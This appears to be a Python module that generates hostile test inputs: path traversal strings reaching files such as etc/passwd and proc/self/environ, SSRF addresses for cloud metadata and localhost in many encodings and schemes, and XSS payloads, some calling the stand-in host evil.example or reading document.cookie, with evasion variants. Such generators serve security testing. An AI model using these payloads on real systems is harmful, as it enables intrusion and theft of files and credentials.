"""Texts that attackers send, made by rule: paths, addresses and scripts."""

import itertools
from urllib.parse import quote


def traversals() -> list[str]:
    """Ways to name a file above the folder, or a file of the machine."""
    files = ("etc/passwd", "index.sqlite", "windows/win.ini", "proc/self/environ")
    ups = ("../", "..\\", "..%2f", "%2e%2e/", "..%252f", "....//", "..;/", "\u2025/", "..\x00/")
    deep = [up * depth + file for up, depth, file in itertools.product(ups, (1, 3, 8), files)]
    absolute = [start + file for start in ("/", "//", "\\\\host\\", "C:\\", "~/") for file in files]
    null = [f"{file}{end}" for file in files for end in ("\x00", "\x00.png", "%00.png", "\n")]
    return [*deep, *absolute, *null, ".", "..", "/", "\\", "CON", "NUL", "index.sqlite-wal"]


def addresses() -> list[str]:
    """Addresses that a server must not fetch."""
    hosts = ("169.254.169.254", "localhost", "127.0.0.1:22", "[::1]", "0.0.0.0", "10.0.0.1")
    hosts += ("2130706433", "0x7f000001", "017700000001", "metadata.google.internal")
    hosts += ("evil.example@127.0.0.1", "127.0.0.1.nip.example", "①②⑦.0.0.1")
    schemes = ("http://", "https://", "ftp://", "gopher://", "ldap://", "dict://", "//")
    schemes += ("file://", "jar:http://", "smb://", "postgresql://", "data:text/plain,")
    paths = [f"{scheme}{host}/latest" for scheme, host in itertools.product(schemes, hosts)]
    return [*paths, "file:///etc/passwd", "php://filter", "\\\\evil.example\\share"]


def scripts() -> list[str]:
    """Texts that would run in a page that does not escape them."""
    calls = ("alert(1)", "fetch('//evil.example')", "document.cookie")
    shapes = ("<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", "<b onclick={}>")
    shapes += ("javascript:{}", '"><script>{}</script>', "'-{}-'", "</title><script>{}</script>")
    shapes += ("{{{{{}}}}}", "${{{}}}", "<a href='javascript:{}'>", "<iframe srcdoc='{}'>")
    made = [shape.format(call) for shape, call in itertools.product(shapes, calls)]
    changed = [text.upper() for text in made] + [quote(text) for text in made]
    return [*made, *changed, *(text.replace("<", "\uff1c") for text in made), *map(_split, made)]


def _split(text: str) -> str:
    return text.replace("script", "scr\x00ipt").replace("on", "o\tn")
